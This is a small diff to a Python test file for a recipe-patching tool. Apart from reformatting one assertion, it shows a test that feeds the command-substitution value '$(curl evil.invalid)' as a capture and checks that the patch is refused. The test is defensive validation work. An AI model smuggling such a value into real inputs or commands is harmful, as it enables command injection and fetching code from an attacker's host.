@@ -83,7 +83,9 @@ def test_an_unknown_value_is_refused() -> None:
 
 def test_a_capture_may_be_written_only_when_it_is_a_number() -> None:
     recipe = EffectiveValue(knob="sequences", to="{most}")
-    assert "+run: bash tests/run.sh rollout.max_seqs=96" in changed(patch(recipe, "rocm_large", captures={"most": "96"}))
+    assert "+run: bash tests/run.sh rollout.max_seqs=96" in changed(
+        patch(recipe, "rocm_large", captures={"most": "96"})
+    )
     found = draft(recipe, "rocm_large", captures={"most": "$(curl evil.invalid)"})
     assert found.state is PatchState.REFUSED
 
